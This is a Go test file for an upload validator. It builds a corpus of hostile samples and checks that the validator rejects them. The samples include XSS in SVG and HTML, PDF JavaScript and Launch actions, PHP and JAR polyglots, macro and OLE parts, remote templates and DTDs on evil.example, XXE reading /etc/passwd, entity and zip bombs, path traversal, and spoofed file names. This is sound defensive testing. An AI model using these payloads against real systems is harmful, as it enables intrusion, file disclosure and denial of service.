package filecheck_test

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"voordeur/internal/fault"
	"voordeur/internal/filecheck"
	"voordeur/internal/filecheck/samples"
)

const limit = 25 << 20

// verdict is what happens to a file that somebody hands in.
func verdict(name string, data []byte) (string, error) {
	clean, err := filecheck.Announce(name, int64(len(data)), limit)
	if err != nil {
		return "", err
	}
	if err := filecheck.Sniff(clean, data[:min(len(data), filecheck.HeadLength)]); err != nil {
		return "", err
	}
	return filecheck.Check(clean, bytes.NewReader(data), int64(len(data)))
}

func join(pieces ...any) []byte {
	var b bytes.Buffer
	for _, p := range pieces {
		fmt.Fprintf(&b, "%s", p)
	}
	return b.Bytes()
}

// with replaces or adds parts of an archive.
func with(parts []samples.Part, more ...samples.Part) []byte {
	out := append([]samples.Part(nil), parts...)
next:
	for _, m := range more {
		for i, p := range out {
			if p.Name == m.Name {
				out[i] = m
				continue next
			}
		}
		out = append(out, m)
	}
	return samples.Zip(out...)
}

func pdfWith(object string) []byte {
	return bytes.Replace(samples.PDF("x"), []byte("/Type /Catalog"), []byte("/Type /Catalog "+object), 1)
}

func deflated(s string) string {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	_, _ = z.Write([]byte(s))
	_ = z.Close()
	return b.String()
}

func pdfWithObjects(content string) []byte {
	packed := deflated(content)
	return bytes.Replace(samples.PDF("x"), []byte("xref\n"),
		[]byte(fmt.Sprintf("9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\r\n%s\nendstream\nendobj\nxref\n", len(packed), packed)), 1)
}

// pngChunks builds a PNG out of chunks with right checksums.
func pngChunks(chunks ...[2]string) []byte {
	out := []byte("\x89PNG\r\n\x1a\n")
	for _, c := range chunks {
		out = binary.BigEndian.AppendUint32(out, uint32(len(c[1])))
		out = append(out, c[0]+c[1]...)
		out = binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE([]byte(c[0]+c[1])))
	}
	return out
}

func ihdr(width, height uint32) [2]string {
	return [2]string{"IHDR", string(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)) + "\x08\x06\x00\x00\x00"}
}

// lying is an archive whose directory says that an entry is small, while it unpacks to size zeros.
func lying(size int64) []byte {
	var packed bytes.Buffer
	w, _ := flate.NewWriter(&packed, flate.BestCompression)
	_, _ = io.CopyN(w, zeros{}, size)
	_ = w.Close()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, p := range samples.DOCXParts("x") {
		e, _ := z.Create(p.Name)
		_, _ = e.Write([]byte(p.Body))
	}
	e, _ := z.CreateRaw(&zip.FileHeader{Name: "word/media/a.bin", Method: zip.Deflate, CompressedSize64: uint64(packed.Len()), UncompressedSize64: 500_000})
	_, _ = e.Write(packed.Bytes())
	_ = z.Close()
	return b.Bytes()
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

func encrypted() []byte {
	data := samples.DOCX("x")
	for i := 0; ; { // the flag stands in each entry's head and in the directory
		at := bytes.Index(data[i:], []byte("PK\x01\x02"))
		if at < 0 {
			return data
		}
		data[i+at+8] |= 1
		i += at + 4
	}
}

func manyEntries(n int) []byte {
	parts := samples.DOCXParts("x")
	for i := range n {
		parts = append(parts, samples.Part{Name: fmt.Sprintf("word/media/%d.png", i), Body: "x"})
	}
	return samples.Zip(parts...)
}

func commented(data []byte, comment string) []byte {
	out := append([]byte(nil), data...)
	binary.LittleEndian.PutUint16(out[len(out)-2:], uint16(len(comment)))
	return append(out, comment...)
}

func utf16(s string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for _, r := range s {
		b.WriteByte(byte(r))
		b.WriteByte(0)
	}
	return b.String()
}

type sample struct {
	name string
	data []byte
	want *fault.Error // nil: taken
}

// corpus is made once: some of it is large.
var corpus = sync.OnceValue(makeCorpus)

func makeCorpus() []sample {
	pdf, jpg, png, heic := samples.PDF("Loonstrook"), samples.JPEG(64, 48), samples.PNG(64, 48), samples.HEIC(4032, 3024)
	docx, xlsx, archive := samples.DOCX("Werkgeversverklaring"), samples.XLSX(), samples.Zip(samples.Part{Name: "evil.class", Body: "\xca\xfe\xba\xbe"})
	const html, svg = "<!DOCTYPE html><html><script>alert(1)</script></html>", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`
	exe := "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + strings.Repeat("\x00", 200)
	gif := "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
	ole := "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 600)
	types := samples.DOCXParts("x")[0].Body
	rel := func(typ, mode string) samples.Part {
		return samples.Part{Name: "word/_rels/settings.xml.rels", Body: `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` +
			typ + `" Target="http://evil.example/x.dotm" ` + mode + `/></Relationships>`}
	}
	doc := samples.DOCXParts("x")
	return []sample{
		// What is taken.
		{"loonstrook.pdf", pdf, nil},
		{"LOONSTROOK.PDF", pdf, nil},
		{"twee revisies.pdf", join(pdf, "7 0 obj\nnull\nendobj\ntrailer\n<<>>\nstartxref\n0\n%%EOF\r\n"), nil},
		{"met lege staart.pdf", join(pdf, "\r\n\r\n\x00\x00"), nil},
		{"objecten in stroom.pdf", pdfWithObjects("1 0 << /Type /Font /Name /JSFont >>"), nil},
		{"sleutel JS.pdf", pdfWith("/PieceInfo << /JS /Name >>"), nil},
		{"groot.pdf", samples.PDFOfSize("x", limit), nil},
		{"foto.jpg", jpg, nil},
		{"foto.jpeg", jpg, nil},
		{"bewegende foto.jpg", join(jpg, "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isommp42", strings.Repeat("film", 500)), nil},
		{"schermafdruk.png", png, nil},
		{"IMG_0001.HEIC", heic, nil},
		{"foto.heif", heic, nil},
		{"brief.docx", docx, nil},
		{"brief met link.docx", with(doc, rel("hyperlink", `TargetMode="External"`)), nil},
		{"brief met sjabloon.docx", with(doc, rel("attachedTemplate", "")), nil},
		{"brief met commentaar.docx", commented(docx, "van kantoor"), nil},
		{"begroting.xlsx", xlsx, nil},
		{"ruim blad.xlsx", with(samples.XLSXParts(), samples.Part{Name: "xl/worksheets/sheet2.xml", Body: strings.Repeat("<c/>", 200_000)}), nil},

		// Kinds that are not taken, under their own name.
		{"plaatje.svg", []byte(svg), filecheck.ErrType},
		{"pagina.html", []byte(html), filecheck.ErrType},
		{"pagina.htm", []byte(html), filecheck.ErrType},
		{"pagina.xhtml", []byte(html), filecheck.ErrType},
		{"data.xml", []byte("<a/>"), filecheck.ErrType},
		{"programma.exe", []byte(exe), filecheck.ErrType},
		{"bibliotheek.dll", []byte(exe), filecheck.ErrType},
		{"bewegend.gif", []byte(gif), filecheck.ErrType},
		{"alles.zip", archive, filecheck.ErrType},
		{"applet.jar", archive, filecheck.ErrType},
		{"oud.doc", []byte(ole), filecheck.ErrType},
		{"oud.xls", []byte(ole), filecheck.ErrType},
		{"macro.docm", docx, filecheck.ErrType},
		{"macro.xlsm", xlsx, filecheck.ErrType},
		{"script.js", []byte("alert(1)"), filecheck.ErrType},
		{"script.sh", []byte("#!/bin/sh\n"), filecheck.ErrType},
		{"mail.eml", []byte("From: x"), filecheck.ErrType},
		{"foto.webp", []byte("RIFF\x00\x00\x00\x00WEBPVP8 "), filecheck.ErrType},
		{"foto.avif", []byte("\x00\x00\x00\x18ftypavif\x00\x00\x00\x00avifmif1"), filecheck.ErrType},
		{"zonder staart", pdf, filecheck.ErrType},
		{"factuur.pdf.exe", []byte(exe), filecheck.ErrType},
		{"factuur.pdf ", pdf, nil},
		{"factuur.pdf.", pdf, nil},
		{"factuur.pdf::$DATA", pdf, filecheck.ErrType},

		// Names that lie.
		{"svg.png", []byte(svg), filecheck.ErrOther},
		{"svg.pdf", []byte(svg), filecheck.ErrOther},
		{"html.pdf", []byte(html), filecheck.ErrOther},
		{"html.jpg", []byte(html), filecheck.ErrOther},
		{"exe.pdf", []byte(exe), filecheck.ErrOther},
		{"exe.docx", []byte(exe), filecheck.ErrOther},
		{"gif.png", []byte(gif), filecheck.ErrOther},
		{"png.jpg", png, filecheck.ErrOther},
		{"jpg.png", jpg, filecheck.ErrOther},
		{"pdf.docx", pdf, filecheck.ErrOther},
		{"docx.pdf", docx, filecheck.ErrOther},
		{"docx.xlsx", docx, filecheck.ErrOther},
		{"xlsx.docx", xlsx, filecheck.ErrOther},
		{"zip.docx", archive, filecheck.ErrOther},
		{"oud.docx", []byte(ole), filecheck.ErrOther},
		{"film.heic", []byte("\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isommp42"), filecheck.ErrOther},
		{"avif.heic", []byte("\x00\x00\x00\x18ftypavif\x00\x00\x00\x00avifmif1"), filecheck.ErrOther},
		{"tekst.pdf", []byte("Beste Sanne, hierbij de stukken."), filecheck.ErrOther},
		{"bijna.pdf", []byte("%PDF-"), filecheck.ErrOther},
		{"later.pdf", join("\n", pdf), filecheck.ErrOther},
		{"toekomst.pdf", bytes.Replace(pdf, []byte("%PDF-1.7"), []byte("%PDF-9.x"), 1), filecheck.ErrOther},
		{"annexe\u202efdp.exe", []byte(exe), filecheck.ErrType},

		// Two things at once.
		{"pdf en html.pdf", bytes.Replace(pdf, []byte("\n"), []byte("\n%"+html+"\n"), 1), filecheck.ErrOther},
		{"pdf en svg.pdf", bytes.Replace(pdf, []byte("\n"), []byte("\n%<SVG onload=x>\n"), 1), filecheck.ErrOther},
		{"pdf en php.pdf", bytes.Replace(pdf, []byte("\n"), []byte("\n%<?php system(1)?>\n"), 1), filecheck.ErrOther},
		{"pdf en jar.pdf", join(pdf, archive), filecheck.ErrOther},
		{"pdf en jar, eind.pdf", commented(join(pdf, archive), "%%EOF\n"), filecheck.ErrOther},
		{"pdf en staart.pdf", join(pdf, "<script>"), filecheck.ErrOther},
		{"gifar.jpg", join(jpg, archive), filecheck.ErrOther},
		{"png en jar.png", join(png, archive), filecheck.ErrOther},
		{"png en html.png", join(png, html), filecheck.ErrOther},
		{"heic en jar.heic", join(heic, []byte("\x00\x00\x00\x00skip"), archive), filecheck.ErrOther},
		{"jpg en html.jpg", join("\xff\xd8\xff\xfe\x00\x22<html><script>alert(1)</script>\x00", jpg[2:]), filecheck.ErrOther},
		{"zip met aanhang.docx", join(docx, "MZ\x90"), filecheck.ErrDamaged},
		{"zip met aanloop.docx", join("MZ\x90\x00", docx), filecheck.ErrOther},

		// What runs.
		{"javascript.pdf", pdfWith("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), filecheck.ErrActive},
		{"js.pdf", pdfWith("/AA << /O << /JS 9 0 R >> >>"), filecheck.ErrActive},
		{"vermomd.pdf", pdfWith("/OpenAction << /S /J#61va#53cript /#4aS <6170> >>"), filecheck.ErrActive},
		{"launch.pdf", pdfWith("/OpenAction << /S /Launch /F (cmd.exe) >>"), filecheck.ErrActive},
		{"ingepakt script.pdf", pdfWithObjects("1 0 << /S /JavaScript /JS (x) >>"), filecheck.ErrActive},
		{"vba.docx", with(doc, samples.Part{Name: "word/vbaProject.bin", Body: "x"}), filecheck.ErrActive},
		{"vba.xlsx", with(samples.XLSXParts(), samples.Part{Name: "xl/vbaProject.bin", Body: "x"}), filecheck.ErrActive},
		{"xlm.xlsx", with(samples.XLSXParts(), samples.Part{Name: "xl/macrosheets/sheet1.xml", Body: "<a/>"}), filecheck.ErrActive},
		{"activex.docx", with(doc, samples.Part{Name: "word/activeX/activeX1.xml", Body: "<a/>"}), filecheck.ErrActive},
		{"ole.docx", with(doc, samples.Part{Name: "word/embeddings/oleObject1.bin", Body: "x"}), filecheck.ErrActive},
		{"macrotype.docx", with(doc, samples.Part{Name: "[Content_Types].xml", Body: strings.Replace(types, "</Types>",
			`<Override PartName="/word/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`, 1)}), filecheck.ErrActive},
		{"sjabloon van elders.docx", with(doc, rel("attachedTemplate", `TargetMode="External"`)), filecheck.ErrActive},
		{"object van elders.docx", with(doc, rel("oleObject", `TargetMode="External"`)), filecheck.ErrActive},
		{"xxe.docx", with(doc, samples.Part{Name: "word/document.xml", Body: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`}), filecheck.ErrActive},
		{"xxe16.docx", with(doc, samples.Part{Name: "word/document.xml", Body: utf16(`<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>`)}), filecheck.ErrActive},
		{"xxe ver weg.xlsx", with(samples.XLSXParts(), samples.Part{Name: "xl/sharedStrings.xml", Body: strings.Repeat(" ", 32<<10-5) + `<!DOCTYPE x>`}), filecheck.ErrActive},
		{"miljard keer lachen.docx", with(doc, samples.Part{Name: "word/x.xml", Body: `<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">`}), filecheck.ErrActive},

		// Bombs.
		{"nullen.docx", with(doc, samples.Part{Name: "word/media/a.bin", Body: strings.Repeat("\x00", 8<<20)}), filecheck.ErrBomb},
		{"leugen.docx", lying(8 << 20), filecheck.ErrDamaged},
		{"veel delen.docx", manyEntries(1000), filecheck.ErrBomb},
		{"veel beeldpunten.png", pngChunks(ihdr(40_001, 1000), [2]string{"IDAT", deflated("x")}, [2]string{"IEND", ""}), filecheck.ErrManyPixels},
		{"breed.png", pngChunks(ihdr(1<<31-1, 1<<31-1), [2]string{"IDAT", deflated("x")}, [2]string{"IEND", ""}), filecheck.ErrManyPixels},
		{"veel beeldpunten.heic", samples.HEIC(100_000, 100_000), filecheck.ErrManyPixels},
		{"objectenbom.pdf", pdfWithObjects(strings.Repeat(" ", 65<<20)), filecheck.ErrBomb},

		// What is broken.
		{"leeg.pdf", nil, filecheck.ErrEmpty},
		{"leeg.svg", nil, filecheck.ErrType},
		{"26 mb.pdf", make([]byte, 26<<20), filecheck.ErrTooLarge},
		{"een byte te veel.pdf", make([]byte, limit+1), filecheck.ErrTooLarge},
		{"afgekapt.pdf", pdf[:len(pdf)/2], filecheck.ErrDamaged},
		{"afgekapt.jpg", jpg[:len(jpg)-100], filecheck.ErrDamaged},
		{"afgekapt.png", png[:len(png)-20], filecheck.ErrDamaged},
		{"afgekapt.heic", heic[:len(heic)-20], filecheck.ErrDamaged},
		{"afgekapt.docx", docx[:len(docx)-20], filecheck.ErrDamaged},
		{"alleen een kop.jpg", []byte("\xff\xd8\xff\xe0"), filecheck.ErrDamaged},
		{"alleen een kop.png", []byte("\x89PNG\r\n\x1a\n"), filecheck.ErrDamaged},
		{"alleen een kop.docx", []byte("PK\x03\x04"), filecheck.ErrDamaged},
		{"bit om.png", flip(png, len(png)/2), filecheck.ErrDamaged},
		{"bit om.docx", flip(docx, bytes.Index(docx, []byte("word/document.xml"))+60), filecheck.ErrDamaged},
		{"versleuteld.docx", encrypted(), filecheck.ErrDamaged},
		{"pad omhoog.docx", with(doc, samples.Part{Name: "../../etc/cron.d/x", Body: "x"}), filecheck.ErrDamaged},
		{"pad windows.docx", with(doc, samples.Part{Name: `word\..\..\x`, Body: "x"}), filecheck.ErrDamaged},
		{"pad vast.docx", with(doc, samples.Part{Name: "/etc/passwd", Body: "x"}), filecheck.ErrDamaged},
		{"dubbel.docx", with(doc, samples.Part{Name: "WORD/document.xml", Body: "x"}), filecheck.ErrDamaged},
		{"geen beschrijving.heic", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic\x00\x00\x00\x08mdat"), filecheck.ErrDamaged},

		// Names that are cleaned, and then fine.
		{"../../etc/loonstrook.pdf", pdf, nil},
		{`C:\Users\Eva\loonstrook.pdf`, pdf, nil},
		{"loon\u202estrook.pdf", pdf, nil},
		{"loon\r\nSet-Cookie: x\x00strook.pdf", pdf, nil},
		{strings.Repeat("é", 400) + ".pdf", pdf, nil},
		{".pdf", pdf, nil},
		{"", pdf, filecheck.ErrName},
		{"..", pdf, filecheck.ErrName},
	}
}

func flip(data []byte, at int) []byte {
	out := append([]byte(nil), data...)
	out[at] ^= 0x10
	return out
}

// TestCorpus judges every file of a hostile collection, each made here, and the good ones beside them.
func TestCorpus(t *testing.T) {
	t.Parallel()

	all := corpus()
	if len(all) < 100 {
		t.Errorf("only %d files", len(all))
	}
	for _, s := range all {
		t.Run(s.name, func(t *testing.T) {
			t.Parallel()

			mediaType, err := verdict(s.name, s.data)
			switch {
			case s.want == nil && (err != nil || mediaType == ""):
				t.Errorf("refused: %v", err)
			case s.want != nil && !errors.Is(err, s.want):
				t.Errorf("got %q, %v; want %s", mediaType, err, s.want.Code)
			case s.want != nil && filecheck.Refusal(s.want.Code) != s.want:
				t.Errorf("%s cannot be remembered", s.want.Code)
			}
		})
	}
}

// TestStoreAway shows that a store that fails is no reason to call a file damaged.
func TestStoreAway(t *testing.T) {
	t.Parallel()

	away := errors.New("store is away")
	for name, data := range map[string][]byte{
		"a.pdf": samples.PDFOfSize("x", 50_000), "a.jpg": samples.JPEG(9, 9), "a.png": samples.PNG(9, 9), "a.heic": samples.HEIC(9, 9), "a.docx": samples.DOCX("x"), "a.xlsx": samples.XLSX(),
	} {
		_, err := filecheck.Check(name, failing{bytes.NewReader(data), away}, int64(len(data)))
		if !errors.Is(err, away) {
			t.Errorf("%s: got %v", name, err)
		}
	}
}

type failing struct {
	*bytes.Reader
	err error
}

func (f failing) ReadAt(p []byte, off int64) (int, error) {
	if off > 0 || len(p) < 100 {
		return 0, f.err
	}
	return f.Reader.ReadAt(p, off)
}

func TestCleanName(t *testing.T) {
	t.Parallel()

	for raw, want := range map[string]string{
		"loonstrook mei.pdf":               "loonstrook mei.pdf",
		"../../etc/passwd.pdf":             "passwd.pdf",
		`C:\tijdelijk\foto.jpg`:            "foto.jpg",
		"a\u202efdp.jpg":                   "afdp.jpg",
		"cafe\u0301.pdf":                   "café.pdf",
		"  veel   wit .pdf":                "veel wit.pdf",
		"naam\r\nmet\tregels.pdf":          "naam met regels.pdf",
		"nul\x00byte.pdf":                  "nulbyte.pdf",
		"kapot\xff\xfe.pdf":                "kapot.pdf",
		`aan"halings<teken>s|?*.pdf`:       "aanhalingstekens.pdf",
		".pdf":                             "document.pdf",
		"....pdf":                          "document.pdf",
		"punt aan het eind.pdf. .":         "punt aan het eind.pdf",
		"👩\u200d👧 foto.heic":               "👩👧 foto.heic",
		strings.Repeat("x", 300) + ".docx": strings.Repeat("x", 195) + ".docx",
	} {
		got, err := filecheck.CleanName(raw)
		if err != nil || got != want {
			t.Errorf("%q: got %q, %v; want %q", raw, got, err, want)
		}
	}
}

// The fuzz targets: nothing may panic, hang, or be taken that does not begin as its kind does.
func FuzzCheck(f *testing.F) {
	for _, s := range corpus() {
		if len(s.data) < 100_000 {
			f.Add(s.name, s.data)
		}
	}
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		mediaType, err := verdict(name, data)
		if err != nil {
			if _, known := errors.AsType[*fault.Error](err); !known {
				t.Errorf("not a refusal: %v", err)
			}
			return
		}
		for typ, magic := range map[string]string{
			"application/pdf": "%PDF-", "image/jpeg": "\xff\xd8\xff", "image/png": "\x89PNG", "image/heic": "\x00", "application/vnd": "PK\x03\x04",
		} {
			if strings.HasPrefix(mediaType, typ) && !bytes.HasPrefix(data, []byte(magic)) {
				t.Errorf("taken as %s: % x", mediaType, data[:min(16, len(data))])
			}
		}
	})
}

func FuzzCleanName(f *testing.F) {
	for _, s := range corpus() {
		f.Add(s.name)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		name, err := filecheck.CleanName(raw)
		if err != nil {
			return
		}
		if name == "" || len(name) > 200 || !utf8.ValidString(name) || strings.ContainsAny(name, "/\\\r\n\x00\"\u202e") {
			t.Errorf("%q became %q", raw, name)
		}
		if again, err := filecheck.CleanName(name); err != nil || again != name {
			t.Errorf("%q became %q, and then %q", raw, name, again)
		}
	})
}
